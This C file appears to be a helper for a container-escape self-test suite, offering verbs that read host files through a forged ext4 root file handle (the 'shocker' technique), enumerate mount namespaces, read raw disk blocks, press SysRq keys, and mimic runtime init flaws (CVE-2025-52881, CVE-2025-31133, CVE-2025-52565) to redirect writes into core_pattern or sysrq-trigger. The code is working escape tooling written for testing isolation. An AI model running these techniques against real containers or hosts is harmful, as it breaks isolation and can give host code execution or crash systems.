// SPDX-License-Identifier: GPL-2.0-only
/*
 * escape VERB...: what selftests/escapes needs and no shell can do, in a container or on the host.
 * Linked statically, so that it runs in any container.
 *
 *   serve SOCKET TEXT      act as a container runtime's daemon, in the background: answer TEXT to
 *                          each connection to SOCKET
 *   ask SOCKET             connect to SOCKET, and print the answer
 *   shocker MOUNTED PATH   print the file PATH of the file system to which MOUNTED belongs, even if
 *                          only a part of it is mounted: by a forged file handle of its root
 *   nfs EXPORTED DIR NAME  the same by the kernel's NFS server, see nfs.c
 *   fuse DIR               serve a file system of FUSE, see fuse.c
 *   sg NODE, bsg NODE      print the first block of a disk, see device.c
 *   keys NODE              press Alt-SysRq-1, see device.c
 *   acct FILE              have the kernel record in FILE each program that ends
 *   mounts                 print the mount points of all mount namespaces
 *   init HOW ROOT TEXT     act as the init of a runtime that is tricked into writing TEXT
 *                          elsewhere, see redirections[]; ROOT is an empty directory
 *
 * Prints the name of the error, and exits with 1, if it fails.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

#define ARRAY_SIZE(array) (sizeof(array) / sizeof((array)[0]))

/*
 * For ext4: the inode number of the root, and the type of file handle that has an inode number and
 * a generation.
 */
#define EXT4_ROOT_INO 2
#define HANDLE_INO_GEN 1

void fail(const char *what)
{
	printf("%s: %s\n", what, strerrorname_np(errno));
	exit(1);
}

long must(long ret, const char *what)
{
	if (ret < 0)
		fail(what);
	return ret;
}

static void print_all(int fd)
{
	char buf[4096];
	ssize_t n;

	while ((n = must(read(fd, buf, sizeof(buf)), "read")) > 0)
		fwrite(buf, 1, n, stdout);
}

static struct sockaddr_un address(const char *path)
{
	struct sockaddr_un addr = { .sun_family = AF_UNIX };

	snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", path);
	return addr;
}

static int serve(char **args)
{
	struct sockaddr_un addr = address(args[0]);
	int fd = must(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), "socket");

	unlink(args[0]);
	must(bind(fd, (struct sockaddr *)&addr, sizeof(addr)), "bind");
	must(listen(fd, 8), "listen");
	if (must(fork(), "fork"))
		return 0;
	must(daemon(0, 0), "daemon");
	for (;;) {
		int peer = accept(fd, NULL, NULL);

		if (peer < 0)
			continue;
		dprintf(peer, "%s\n", args[1]);
		close(peer);
	}
}

static int ask(char **args)
{
	struct sockaddr_un addr = address(args[0]);
	int fd = must(socket(AF_UNIX, SOCK_STREAM, 0), "socket");

	must(connect(fd, (struct sockaddr *)&addr, sizeof(addr)), "connect");
	print_all(fd);
	return 0;
}

static int shocker(char **args)
{
	struct {
		struct file_handle head;
		uint32_t ino, generation;
	} handle = { { .handle_bytes = 8, .handle_type = HANDLE_INO_GEN }, EXT4_ROOT_INO, 0 };
	int mounted = must(open(args[0], O_RDONLY), "open");
	int root = must(open_by_handle_at(mounted, &handle.head, O_RDONLY), "open_by_handle_at");

	print_all(must(openat(root, args[1], O_RDONLY), "openat"));
	return 0;
}

static int account(char **args)
{
	must(acct(args[0]), "acct");
	return 0;
}

/* Of linux/mount.h since 6.11, with what is asked for and where the answer's text begins. */
struct mount_request {
	uint32_t size, spare;
	uint64_t mount, parameter, ns;
};

#define NR_STATMOUNT 457
#define NR_LISTMOUNT 458
#define ROOT_MOUNT UINT64_MAX
#define MOUNT_POINT 0x10
#define TEXT_OFFSET 512

static void print_mount_point(uint64_t ns, uint64_t mount)
{
	struct mount_request request = { sizeof(request), 0, mount, MOUNT_POINT, ns };
	char answer[TEXT_OFFSET + 1024] = "";

	if (!syscall(NR_STATMOUNT, &request, answer, sizeof(answer), 0))
		puts(answer + TEXT_OFFSET + !answer[TEXT_OFFSET]);
}

/* Mount namespaces have small numbers, which can be guessed. */
static int mounts(char **args __attribute__((unused)))
{
	uint64_t ns, list[128];
	long n, err = 0;

	for (ns = 1; ns < 64; ns++) {
		struct mount_request request = { sizeof(request), 0, ROOT_MOUNT, 0, ns };

		n = syscall(NR_LISTMOUNT, &request, list, ARRAY_SIZE(list), 0);
		if (n < 0)
			err = errno;
		while (n > 0)
			print_mount_point(ns, list[--n]);
	}
	printf("last error: %s\n", strerrorname_np(err));
	return 0;
}

/* A path below the container's root. The last four results stay valid. */
static const char *in(const char *root, const char *name)
{
	static char paths[4][256];
	static unsigned int next;
	char *path = paths[next++ % ARRAY_SIZE(paths)];

	snprintf(path, sizeof(paths[0]), "%s%s", root, name);
	return path;
}

static void bind_to(const char *from, const char *to)
{
	must(mount(from, to, NULL, MS_BIND, NULL), "bind mount");
}

void write_to(const char *path, const char *text)
{
	int fd = must(open(path, O_WRONLY), "open");

	must(write(fd, text, strlen(text)), "write");
	close(fd);
}

/* Mount /proc/sys read-only, as runtimes do, and pivot into the container. */
static void enter(const char *root)
{
	const char *sys = in(root, "/proc/sys");

	bind_to(sys, sys);
	must(mount(NULL, sys, NULL, MS_BIND | MS_REMOUNT | MS_RDONLY, NULL), "remount");
	must(chdir(root), "chdir");
	must(syscall(SYS_pivot_root, ".", "."), "pivot_root");
	must(umount2(".", MNT_DETACH), "umount");
	must(chdir("/"), "chdir");
}

/*
 * CVE-2025-52881: the runtime writes an LSM label. A race has mounted another file over its file.
 */
static void label(const char *root, const char *text)
{
	bind_to(in(root, "/proc/sys/kernel/core_pattern"), in(root, "/proc/thread-self/attr/exec"));
	write_to(in(root, "/proc/thread-self/attr/exec"), text);
}

/* The same with a number: 1000. SysRq takes the first digit as a key. */
static void score(const char *root, const char *text)
{
	bind_to(in(root, "/proc/sysrq-trigger"), in(root, "/proc/self/oom_score_adj"));
	write_to(in(root, "/proc/self/oom_score_adj"), text);
}

/*
 * CVE-2025-31133: runtimes mask files by bind mounts of /dev/null, which is a symbolic link in this
 * image.
 */
static void mask(const char *root, const char *text)
{
	must(symlink(in(root, "/proc/sys/kernel/core_pattern"), in(root, "/dev/null")), "symlink");
	bind_to(in(root, "/dev/null"), in(root, "/proc/timer_list"));
	enter(root);
	write_to("/proc/timer_list", text);
}

/* CVE-2025-52565: the runtime mounts a terminal as /dev/console before it masks anything. */
static void console(const char *root, const char *text)
{
	must(symlink(in(root, "/proc/sys/kernel/core_pattern"), in(root, "/dev/pts0")), "symlink");
	close(must(open(in(root, "/dev/console"), O_CREAT | O_WRONLY, 0600), "open"));
	bind_to(in(root, "/dev/pts0"), in(root, "/dev/console"));
	enter(root);
	write_to("/dev/console", text);
}

/* Nothing is redirected: all that an init does must work, up to the write of its own command. */
static void straight(const char *root, const char *text)
{
	must(mknod(in(root, "/dev/null"), S_IFCHR | 0666, 1 << 8 | 3), "mknod");
	bind_to(in(root, "/dev/null"), in(root, "/proc/timer_list"));
	write_to(in(root, "/proc/self/oom_score_adj"), "1000");
	enter(root);
	write_to("/proc/timer_list", text);
}

static const struct redirection {
	const char *name;
	void (*run)(const char *root, const char *text);
} redirections[] = {
	{ "label", label },
	{ "score", score },
	{ "mask", mask },
	{ "console", console },
	{ "straight", straight },
};

/* As runc and crun do, when they are already in the container's cgroup. */
static void be_init(const struct redirection *redirection, char **args)
{
	const char *root = args[1];

	must(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL), "make private");
	must(mount(root, root, NULL, MS_BIND | MS_REC, NULL), "bind mount");
	mkdir(in(root, "/proc"), 0755);
	mkdir(in(root, "/dev"), 0755);
	must(mount("proc", in(root, "/proc"), "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL),
	     "mount of proc");
	must(mount("tmpfs", in(root, "/dev"), "tmpfs", MS_NOSUID, "mode=755"), "mount of tmpfs");
	redirection->run(root, args[2]);
	puts("written");
	exit(0);
}

static int init(char **args)
{
	const int namespaces = CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWUTS | CLONE_NEWIPC |
			       CLONE_NEWNET | CLONE_NEWCGROUP;
	unsigned int i;
	int status;

	for (i = 0; i < ARRAY_SIZE(redirections); i++) {
		if (strcmp(args[0], redirections[i].name) != 0)
			continue;
		must(unshare(namespaces), "unshare");
		if (!must(fork(), "fork"))
			be_init(&redirections[i], args);
		must(wait(&status), "wait");
		return status ? 1 : 0;
	}
	return 2;
}

static const struct verb {
	const char *name;
	int nr_args;
	int (*run)(char **args);
} verbs[] = {
	{ "serve", 2, serve },
	{ "ask", 1, ask },
	{ "shocker", 2, shocker },
	{ "nfs", 3, nfs },
	{ "fuse", 1, serve_fuse },
	{ "sg", 1, sg },
	{ "bsg", 1, bsg },
	{ "keys", 1, keys },
	{ "acct", 1, account },
	{ "mounts", 0, mounts },
	{ "init", 3, init },
};

int main(int argc, char **argv)
{
	unsigned int i;

	for (i = 0; argc > 1 && i < ARRAY_SIZE(verbs); i++) {
		if (!strcmp(argv[1], verbs[i].name) && argc - 2 == verbs[i].nr_args)
			return verbs[i].run(argv + 2);
	}
	fprintf(stderr, "usage: %s VERB ARGUMENT...\n", argv[0]);
	return 2;
}
